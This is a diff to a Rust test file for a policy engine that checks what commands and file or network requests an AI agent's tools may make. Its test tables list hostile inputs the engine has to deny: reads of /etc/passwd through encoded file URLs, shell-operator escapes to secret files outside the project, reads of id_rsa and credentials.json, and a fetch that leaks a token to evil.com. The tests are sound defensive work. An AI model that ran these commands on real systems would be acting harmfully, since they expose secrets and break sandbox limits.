@@ -1106,6 +1106,8 @@ fn hidden_paths_in_undeclared_tools() {
             json!({"note": "open file://localhost/etc/passwd"}),
             "outside_root",
         ),
+        (json!({"note": "open file:/etc/passwd"}), "outside_root"),
+        (json!({"note": "open FILE:%2Fetc%2Fpasswd"}), "outside_root"),
         (json!({"url": "file:///etc/passwd"}), "outside_root"),
         (json!({"href": "file:%2Fetc%2Fpasswd"}), "outside_root"),
         (json!({"path": "file:///t/root/src/main.rs"}), "allowed"),
@@ -1728,19 +1730,46 @@ fn shell_operators_split_words() {
     let fs = mem_fs("/t");
     let tool = command_run();
     let rows: Vec<(Value, &str)> = vec![
-        (json!({"command": "cat<../outside/secret.txt"}), "outside_root"),
-        (json!({"command": "echo x>../outside/new.txt"}), "outside_root"),
-        (json!({"command": "true;cat ../outside/secret.txt"}), "outside_root"),
-        (json!({"command": "cd ..&&cat outside/secret.txt"}), "outside_root"),
-        (json!({"command": "true||cat<link_out/secret.txt"}), "outside_root"),
-        (json!({"command": "x=$(cat<../outside/secret.txt)"}), "outside_root"),
+        (
+            json!({"command": "cat<../outside/secret.txt"}),
+            "outside_root",
+        ),
+        (
+            json!({"command": "echo x>../outside/new.txt"}),
+            "outside_root",
+        ),
+        (
+            json!({"command": "true;cat ../outside/secret.txt"}),
+            "outside_root",
+        ),
+        (
+            json!({"command": "cd ..&&cat outside/secret.txt"}),
+            "outside_root",
+        ),
+        (
+            json!({"command": "true||cat<link_out/secret.txt"}),
+            "outside_root",
+        ),
+        (
+            json!({"command": "x=$(cat<../outside/secret.txt)"}),
+            "outside_root",
+        ),
         (json!({"command": "cat .env|wc"}), "sensitive_path_denied"),
         // legitimate
-        (json!({"command": "cargo build 2>&1 | tail -n 20"}), "allowed"),
+        (
+            json!({"command": "cargo build 2>&1 | tail -n 20"}),
+            "allowed",
+        ),
         (json!({"command": "cargo build >/dev/null 2>&1"}), "allowed"),
         (json!({"command": "ls src > /dev/null"}), "allowed"),
-        (json!({"command": "head -c 16 /dev/urandom | od"}), "allowed"),
-        (json!({"command": "git log --format='%h;%s' -n 3"}), "allowed"),
+        (
+            json!({"command": "head -c 16 /dev/urandom | od"}),
+            "allowed",
+        ),
+        (
+            json!({"command": "git log --format='%h;%s' -n 3"}),
+            "allowed",
+        ),
         (json!({"argv": ["echo", "a;../b"]}), "allowed"),
         (json!({"argv": ["sh", "-c", "ls src"]}), "allowed"),
     ];
@@ -1750,7 +1779,9 @@ fn shell_operators_split_words() {
 /// `host:80` pins port 80 even though it is the scheme default.
 #[test]
 fn host_with_default_port_matches_a_pinned_entry() {
-    let o = opts(json!({"network_egress_policy": "allow", "network_allowlist": ["example.com:80", "secure.test:443"]}));
+    let o = opts(
+        json!({"network_egress_policy": "allow", "network_allowlist": ["example.com:80", "secure.test:443"]}),
+    );
     let set = PolicySet::compile(&o, PolicyContext::new("/srv/app")).unwrap();
     assert!(set.check_host_str("example.com:80").is_ok());
     assert!(set.check_host_str("secure.test:443").is_ok());
@@ -1774,16 +1805,61 @@ fn denial_details_are_redacted() {
     ] {
         let d = evaluate(&set, &ToolRequest::new(&fs_read(), &args), &fs);
         assert_eq!(d.decision, Outcome::Deny);
-        let all = format!("{} {:?} {} {:?} {:?}", d.explain, d.subject, d.details, d.error, d.error.as_ref().map(ToString::to_string));
+        let all = format!(
+            "{} {:?} {} {:?} {:?}",
+            d.explain,
+            d.subject,
+            d.details,
+            d.error,
+            d.error.as_ref().map(ToString::to_string)
+        );
         assert!(!all.contains("ghp_abcdefghij"), "{all}");
         assert!(!all.contains("hunter2canary"), "{all}");
     }
     let set = net_set();
     let d = evaluate(
         &set,
-        &ToolRequest::new(&http_fetch(), &json!({"url": format!("https://{tok}.evil.com/")})),
+        &ToolRequest::new(
+            &http_fetch(),
+            &json!({"url": format!("https://{tok}.evil.com/")}),
+        ),
         &MemFs::new(),
     );
     let all = format!("{} {:?} {} {:?}", d.explain, d.subject, d.details, d.error);
     assert!(!all.contains("ghp_abcdefghij"), "{all}");
+}
+
+/// Command words that are not path-like still name files relative to the cwd: sensitive
+/// files and symlinks out must not pass; long prose arguments are no false `invalid_path`.
+#[test]
+fn bare_command_words() {
+    let base = Path::new("/t");
+    let set = PolicySet::compile(&opts(json!({})), ctx(base)).unwrap();
+    let fs = mem_fs("/t");
+    let tool = command_run();
+    let long = format!("fix: {} in a/b", "word ".repeat(80));
+    let rows: Vec<(Value, &str)> = vec![
+        (json!({"argv": ["cat", "id_rsa"]}), "sensitive_path_denied"),
+        (json!({"argv": ["cat", "file_link"]}), "outside_root"),
+        (
+            json!({"cwd": "keys", "argv": ["cat", "server.PEM"]}),
+            "sensitive_path_denied",
+        ),
+        (
+            json!({"command": "cat credentials.json"}),
+            "sensitive_path_denied",
+        ),
+        (
+            json!({"argv": ["cat", "a=../outside/secret.txt"]}),
+            "outside_root",
+        ),
+        (json!({"argv": ["git", "commit", "-m", long]}), "allowed"),
+        (json!({"argv": ["git", "status", "--short"]}), "allowed"),
+        (
+            json!({"argv": ["cargo", "test", "-p", "codeward-policies", "credentials"]}),
+            "allowed",
+        ),
+        (json!({"command": "FOO=bar make -j2 all"}), "allowed"),
+    ];
+    run_table("bare words", &set, &tool, &fs, &rows);
 }
